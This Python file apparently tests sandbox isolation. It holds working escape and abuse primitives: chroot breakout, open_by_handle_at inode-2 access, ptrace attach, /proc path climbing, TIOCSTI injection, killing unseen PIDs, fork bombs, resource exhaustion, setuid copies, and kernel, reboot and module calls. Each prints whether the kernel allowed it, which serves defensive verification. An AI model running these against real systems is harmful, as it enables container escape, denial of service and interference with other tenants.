"""Attacks from inside a sandbox, one per name. Each does the real thing and prints one JSON line: whether the kernel let it,
and what it got. The same program is run on a target it may reach and on one it may not."""
import ctypes, errno, json, os, resource, signal, socket, stat, struct, sys, time

libc = ctypes.CDLL(None, use_errno=True)
SYSCALLS = {
    "x86_64": {"ptrace": 101, "keyctl": 250, "add_key": 248, "open_by_handle_at": 304, "bpf": 321, "pidfd_open": 434, "pidfd_getfd": 438, "kexec_load": 246, "init_module": 175, "setns": 308},
    "aarch64": {"ptrace": 117, "keyctl": 219, "add_key": 217, "open_by_handle_at": 265, "bpf": 280, "pidfd_open": 434, "pidfd_getfd": 438, "kexec_load": 104, "init_module": 105, "setns": 268},
}[os.uname().machine]


def call(number, *args):
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(number, *args)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def checked(result):
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def mount(source, target, kind, flags="0", data=""):
    checked(libc.mount(source.encode(), target.encode(), kind.encode(), int(flags, 0), data.encode()))
    return os.listdir(target)[:20]


def read(path):
    with open(path, "rb") as file:
        return file.read(200).decode("latin1")


def write(path, text):
    with open(path, "r+b" if os.path.exists(path) else "wb", buffering=0) as file:
        file.write(text.encode())
    return "written"


def tcp(host, port):
    with socket.create_connection((host, int(port)), 3) as peer:
        return peer.recv(50).decode("latin1")


def unix(name):
    with socket.socket(socket.AF_UNIX) as peer:
        peer.settimeout(3)
        peer.connect("\0" + name[1:] if name.startswith("@") else name)
        return peer.recv(50).decode("latin1")


def serve(kind, where, text):
    if kind == "tcp":
        door = socket.create_server(("127.0.0.1", int(where)))
    else:
        door = socket.socket(socket.AF_UNIX)
        door.bind("\0" + where[1:] if where.startswith("@") else where)
        door.listen()
    print(json.dumps({"ok": True, "got": "listening"}), flush=True)
    while True:
        peer, _ = door.accept()
        peer.sendall(text.encode())
        peer.close()


def send_signal(pid):
    os.kill(int(pid), signal.SIGKILL)
    return "sent"


def signal_unseen(*numbers):
    """Numbers that the host gives to other sandboxes' processes, and that nothing visible here has."""
    hit = []
    for number in numbers:
        if os.path.exists(f"/proc/{number}"):
            continue
        try:
            os.kill(int(number), signal.SIGKILL)
            hit.append(number)
        except OSError:
            pass
    return hit


def own_child():
    pid = os.fork()
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    return pid


def signal_own():
    pid = own_child()
    os.kill(pid, signal.SIGKILL)
    return os.WTERMSIG(os.waitpid(pid, 0)[1])


def trace(pid):
    own = pid == "own"
    number = own_child() if own else int(pid)
    call(SYSCALLS["ptrace"], 16, number, 0, 0)
    os.waitpid(number, 0x40000000)
    call(SYSCALLS["ptrace"], 17, number, 0, 0)
    if own:
        os.kill(number, signal.SIGKILL)
        os.waitpid(number, 0)
    return "attached"


def hard_link(source, name):
    os.link(source, name)
    return read(name)


def sym_link(source, name):
    os.symlink(source, name)
    return read(name)


def climb(path):
    """Enough `..` to leave any root, from here and from every folder some process holds open."""
    starts = ["."] + [f"/proc/{pid}/{name}" for pid in pids() for name in ("cwd", "root")]
    for pid in pids():
        try:
            starts += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
    last = OSError(errno.ENOENT, "nothing")
    for start in starts:
        for way in (path, "/.." * 20 + path):
            try:
                return [start, read(start + way)]
            except OSError as error:
                last = error
    raise last


def pids():
    return [name for name in os.listdir("/proc") if name.isdigit()]


def agents():
    found = []
    for pid in pids():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                words = file.read().split(b"\0")
        except OSError:
            continue
        if words[0] == b"/opt/e2b/bin/node" and b"/opt/e2b/envd.cjs" in words:
            found.append(pid)
    return found


def chroot_climb(path):
    """The classic way out of a changed root: keep a folder open, change root below it, walk up from the folder."""
    os.makedirs("/tmp/jail", exist_ok=True)
    above = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(above)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    return read(path)


def node(path, kind, major, minor):
    mode = 0o600 | (stat.S_IFBLK if kind == "b" else stat.S_IFCHR if kind == "c" else stat.S_IFIFO)
    os.mknod(path, mode, os.makedev(int(major), int(minor)))
    if kind == "p":
        return "made"
    with open(path, "rb", buffering=0) as file:
        return len(file.read(512))


def handle(_path):
    """open_by_handle_at with the handle of inode 2: the root of whatever file system the sandbox's files lie on."""
    anchor = os.open("/", os.O_RDONLY)
    blob = struct.pack("=IiII", 8, 1, 2, 0)
    fd = call(SYSCALLS["open_by_handle_at"], anchor, blob, os.O_RDONLY)
    return os.listdir(fd)[:20]


def nested(action, path):
    """A user namespace of one's own gives every capability over what is in it, and must give none over what is not."""
    checked(libc.unshare(0x10000000 | 0x00020000))
    if action == "mount":
        return mount("none", path, "tmpfs")
    if action == "umount":
        checked(libc.umount2(path.encode(), 2))
        return "unmounted"
    return mount("proc", path, "proc")


def key(action, name):
    if action == "add":
        serial = call(SYSCALLS["add_key"], b"user", name.encode(), b"planted", 7, ctypes.c_long(-4))
        return serial
    if action == "session":
        out = ctypes.create_string_buffer(200)
        call(SYSCALLS["keyctl"], 6, ctypes.c_long(-3), out, 200)
        return out.value.decode()
    serial = call(SYSCALLS["keyctl"], 10, ctypes.c_long(-4), b"user", name.encode(), 0)
    out = ctypes.create_string_buffer(200)
    call(SYSCALLS["keyctl"], 11, serial, out, 200)
    return out.value.decode()


def tiocsti(path):
    import fcntl, pty

    fd = pty.openpty()[1] if path == "own" else os.open(path, os.O_RDWR)
    if path == "own":
        return len(fcntl.ioctl(fd, 0x5413, b"\0" * 8))
    fcntl.ioctl(fd, 0x5412, b"x")
    return "typed"


def fork_bomb(most):
    children = []
    try:
        while len(children) < int(most):
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            children.append(pid)
    except OSError:
        pass
    for pid in children:
        os.kill(pid, signal.SIGKILL)
    for pid in children:
        os.waitpid(pid, 0)
    return len(children)


def hog(megabytes):
    held = []
    for _ in range(int(megabytes)):
        held.append(bytearray(os.urandom(1) * 1_048_576))
    return len(held)


def fill(path, megabytes, how="kept"):
    block = b"x" * 1_048_576
    with open(path, "wb", buffering=0) as file:
        if how == "unlinked":
            os.unlink(path)
        for done in range(int(megabytes)):
            if how == "unlimited":
                resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            if file.write(block) != len(block):
                raise OSError(errno.ENOSPC, "short write")
            if done % 16 == 15:
                os.fsync(file.fileno())
                time.sleep(0.02)
    return int(megabytes)


def setuid_copy(program, copy):
    """As root: a copy of a program owned by root with the setuid bit."""
    with open(program, "rb") as source, open(copy, "wb") as target:
        target.write(source.read())
    os.chmod(copy, 0o4755)
    return oct(os.stat(copy).st_mode & 0o7777)


def kernel(which):
    if which == "kexec":
        return call(SYSCALLS["kexec_load"], 0, 0, None, 0)
    if which == "module":
        return call(SYSCALLS["init_module"], b"x", 1, b"")
    if which == "clock":
        return checked(libc.settimeofday(struct.pack("=qq", 1_000_000_000, 0), None))
    if which == "reboot":
        return checked(libc.reboot(0))
    return checked(libc.sethostname(b"owned", 5))


ATTACKS = {
    "read": read, "write": write, "list": lambda path: os.listdir(path)[:50], "tcp": tcp, "unix": unix, "serve": serve,
    "signal": send_signal, "signal-own": signal_own, "signal-unseen": signal_unseen, "agents": agents, "trace": trace, "hard-link": hard_link, "sym-link": sym_link,
    "climb": climb, "chroot-climb": chroot_climb, "mount": mount, "node": node, "handle": handle, "nested": nested,
    "key": key, "tiocsti": tiocsti, "fork-bomb": fork_bomb, "hog": hog, "fill": fill, "setuid-copy": setuid_copy,
    "kernel": kernel, "pids": pids, "open": lambda path: os.close(os.open(path, os.O_RDWR)),
}  # fmt: skip

if __name__ == "__main__":
    try:
        print(json.dumps({"ok": True, "got": ATTACKS[sys.argv[1]](*sys.argv[2:])}))
    except OSError as error:
        print(json.dumps({"ok": False, "got": errno.errorcode.get(error.errno, str(error))}))
    except MemoryError:
        print(json.dumps({"ok": False, "got": "ENOMEM"}))
